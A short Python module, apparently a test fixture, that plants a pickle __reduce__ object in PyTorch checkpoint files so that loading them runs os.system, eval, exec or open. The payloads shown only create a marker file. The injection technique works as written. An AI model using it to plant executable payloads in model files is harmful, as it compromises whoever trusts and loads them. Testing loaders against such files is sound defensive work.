"""Files of checkpoints that execute something when somebody trusting unpickles them."""

import os

import torch


class Malicious:
    """What is pickled as a call."""

    def __init__(self, call, *arguments):
        self.call, self.arguments = call, arguments

    def __reduce__(self):
        return self.call, self.arguments


ATTACKS = {
    "system": (os.system, "touch {}"),
    "eval": (eval, "open('{}', 'w')"),
    "exec": (exec, "open('{}', 'w')"),
    "open": (open, "{}", "w"),
}
"""Functions and their arguments, which make a file."""


def infect(path, attack, trace):
    """Let a file of a checkpoint make the file ``trace`` when it is unpickled."""
    call, *arguments = ATTACKS[attack]
    state = torch.load(path)
    state["extra_state"]["surprise"] = Malicious(call, *(text.format(trace) for text in arguments))
    torch.save(state, path)
